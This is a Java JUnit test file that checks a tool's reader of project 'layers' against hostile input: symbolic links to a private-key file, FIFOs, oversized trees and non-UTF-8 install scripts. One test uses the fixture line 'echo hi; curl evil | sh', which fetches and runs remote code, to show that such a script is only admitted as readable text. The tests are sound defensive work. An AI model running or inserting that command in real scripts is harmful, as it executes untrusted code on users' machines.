package dev.mino.layers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Reading a project's layer tree as hostile input: no links, bounded sizes, one read. */
class ProjectLayersTest {

    @TempDir
    Path tmp;

    private Path project;
    private Path secret;

    @BeforeEach
    void dirs() throws IOException {
        project = Files.createDirectories(tmp.resolve("project"));
        secret = Files.writeString(tmp.resolve("id_ed25519"), "PRIVATE KEY\n");
    }

    private Path layer(String name) throws IOException {
        return LayerResolverTest.writeLayer(project.resolve(".mino/layers").resolve(name), name, "d", "echo hi\n");
    }

    @Test
    void readsEveryFileOnceAndFingerprintsIt() throws IOException {
        Path dir = layer("mine");
        Files.createDirectories(dir.resolve("files"));
        Files.writeString(dir.resolve("files/extra.txt"), "x");

        ProjectLayers layers = ProjectLayers.read(project);

        assertEquals(java.util.Set.of("mine/files/extra.txt", "mine/install.sh", "mine/layer.toml"), layers.paths());
        assertEquals(List.of("mine"), layers.layerNames());
        assertEquals(LayerFingerprint.sha256("echo hi\n".getBytes(StandardCharsets.UTF_8)),
                layers.fingerprint().files().get("mine/install.sh"));
        // What is resolved comes from the snapshot, not from the disk as it is now.
        Files.writeString(dir.resolve("install.sh"), "echo changed\n");
        Layer resolved = LayerResolver.builder().projectLayers(layers).build().resolve("mine").layers().get(0);
        assertEquals(Optional.of("echo hi\n"), resolved.installScript());
        assertFalse(layers.fingerprint().equals(ProjectLayers.read(project).fingerprint()));
    }

    @Test
    void aProjectWithoutLayersIsEmpty() {
        assertTrue(ProjectLayers.read(project).isEmpty());
    }

    @Test
    void aLinkedInstallScriptIsRefused() throws IOException {
        Path dir = layer("mine");
        Files.delete(dir.resolve("install.sh"));
        Files.createSymbolicLink(dir.resolve("install.sh"), secret);

        LayerException e = assertThrows(LayerException.class, () -> ProjectLayers.read(project));
        assertTrue(e.getMessage().contains(dir.resolve("install.sh") + ": it is a symbolic link"), e.getMessage());
        assertTrue(e.hint().startsWith("Replace the link with a regular file"), e.hint());
    }

    @Test
    void linkedFoldersAreRefused() throws IOException {
        Path elsewhere = Files.createDirectories(tmp.resolve("elsewhere/.mino/layers"));
        LayerResolverTest.writeLayer(elsewhere.resolve("mine"), "mine", "d", "echo hi\n");

        Files.createSymbolicLink(project.resolve(".mino"), elsewhere.getParent());
        assertTrue(assertThrows(LayerException.class, () -> ProjectLayers.read(project)).getMessage()
                .contains("the project's .mino folder"));
        Files.delete(project.resolve(".mino"));

        Files.createDirectories(project.resolve(".mino"));
        Files.createSymbolicLink(project.resolve(".mino/layers"), elsewhere);
        assertTrue(assertThrows(LayerException.class, () -> ProjectLayers.read(project)).getMessage()
                .contains("the project's layers folder"));
        Files.delete(project.resolve(".mino/layers"));

        Files.createDirectories(project.resolve(".mino/layers"));
        Files.createSymbolicLink(project.resolve(".mino/layers/mine"), elsewhere.resolve("mine"));
        assertTrue(assertThrows(LayerException.class, () -> ProjectLayers.read(project)).getMessage()
                .contains("an entry of the project's layers folder " + project.resolve(".mino/layers/mine")));
    }

    @Test
    void sizesAreCapped() throws IOException {
        Path dir = layer("mine");
        Files.write(dir.resolve("big.bin"), new byte[(int) ProjectLayers.MAX_FILE_BYTES + 1]);
        LayerException e = assertThrows(LayerException.class, () -> ProjectLayers.read(project));
        assertTrue(e.getMessage().contains("is larger than " + ProjectLayers.MAX_FILE_BYTES), e.getMessage());
        Files.delete(dir.resolve("big.bin"));

        for (int i = 0; i < 9; i++) {
            Files.write(dir.resolve("part" + i), new byte[(int) ProjectLayers.MAX_FILE_BYTES]);
        }
        e = assertThrows(LayerException.class, () -> ProjectLayers.read(project));
        assertTrue(e.getMessage().contains("holds more than " + ProjectLayers.MAX_TOTAL_BYTES), e.getMessage());
    }

    @Test
    void fingerprintChangesNameWhatChanged() {
        Path dir = project.resolve(".mino/layers");
        LayerFingerprint before = ProjectLayers.of(dir, Map.of("a/layer.toml", new byte[] {1},
                "a/install.sh", new byte[] {2}, "b/layer.toml", new byte[] {3})).fingerprint();
        LayerFingerprint after = ProjectLayers.of(dir, Map.of("a/layer.toml", new byte[] {1},
                "a/install.sh", new byte[] {9}, "c/layer.toml", new byte[] {3})).fingerprint();

        LayerFingerprint.Changes changes = after.changesSince(before);
        assertEquals(List.of("c/layer.toml"), changes.added());
        assertEquals(List.of("a/install.sh"), changes.modified());
        assertEquals(List.of("b/layer.toml"), changes.removed());
        assertTrue(after.changesSince(after).isEmpty());
        assertFalse(before.digest().equals(after.digest()));
        assertEquals(before.digest(), new LayerFingerprint(before.files()).digest());
    }

    @Test
    void manyEmptyFoldersAreRefusedWhileListed() throws IOException {
        // Red team: empty folders cost the sandbox no bytes and were not counted, so it could plant
        // millions for the next run to list into memory.
        Path dir = layer("mine");
        for (int i = 0; i < ProjectLayers.MAX_ENTRIES; i++) {
            Files.createDirectory(dir.resolve("d" + i));
        }
        LayerException e = assertThrows(LayerException.class, () -> ProjectLayers.read(project));
        assertTrue(e.getMessage().contains("holds more than " + ProjectLayers.MAX_ENTRIES + " files and folders"),
                e.getMessage());

        for (int i = 0; i < ProjectLayers.MAX_ENTRIES - ProjectLayers.MAX_FILES; i++) {
            Files.delete(dir.resolve("d" + i));
        }
        assertEquals(List.of("mine"), ProjectLayers.read(project).layerNames(),
                "the positive control: a tree within the cap reads");
    }

    @Test
    void fifosAndHardLinksAreJudgedAsWhatTheyAre() throws IOException, InterruptedException {
        // A FIFO would block the read; it is not a regular file, so it is refused before any open.
        Path dir = layer("mine");
        Path fifo = dir.resolve("pipe");
        Process mkfifo = new ProcessBuilder("mkfifo", fifo.toString()).start();
        assertEquals(0, mkfifo.waitFor());
        LayerException e = assertThrows(LayerException.class, () -> ProjectLayers.read(project));
        assertTrue(e.getMessage().contains("neither a folder nor a regular file"), e.getMessage());
        Files.delete(fifo);

        // A hard link is a regular file: its bytes are read, fingerprinted and shown like any other,
        // so a link to a file elsewhere (only the project is visible to a sandbox) hides nothing.
        Path other = Files.writeString(project.resolve("notes.txt"), "project notes\n");
        Files.createLink(dir.resolve("notes.txt"), other);
        ProjectLayers layers = ProjectLayers.read(project);
        assertEquals(Optional.of("project notes\n"), layers.content("mine/notes.txt").map(String::new));
        assertEquals(LayerFingerprint.sha256("project notes\n".getBytes(StandardCharsets.UTF_8)),
                layers.fingerprint().files().get("mine/notes.txt"));
    }

    @Test
    void anInstallScriptThatIsNotUtf8IsNeverBuilt() throws IOException {
        // The trust prompt cannot show bytes that are not text (it says "not UTF-8 text"), so such a
        // script must never reach a build: trusting the tree does not let it in.
        Path dir = layer("mine");
        byte[] script = "echo hi; curl evil | sh\n".getBytes(StandardCharsets.UTF_8);
        byte[] invalid = java.util.Arrays.copyOf(script, script.length + 1);
        invalid[script.length] = (byte) 0xff;
        Files.write(dir.resolve("install.sh"), invalid);
        ProjectLayers layers = ProjectLayers.read(project);
        LayerException e = assertThrows(LayerException.class,
                () -> LayerResolver.builder().projectLayers(layers).build().resolve("mine"));
        assertTrue(e.getMessage().contains("is not UTF-8 text"), e.getMessage());

        Files.write(dir.resolve("install.sh"), script);
        assertEquals(Optional.of("echo hi; curl evil | sh\n"), LayerResolver.builder()
                .projectLayers(ProjectLayers.read(project)).build().resolve("mine").layers().get(0).installScript(),
                "the positive control: the same script as text is used");
    }
}
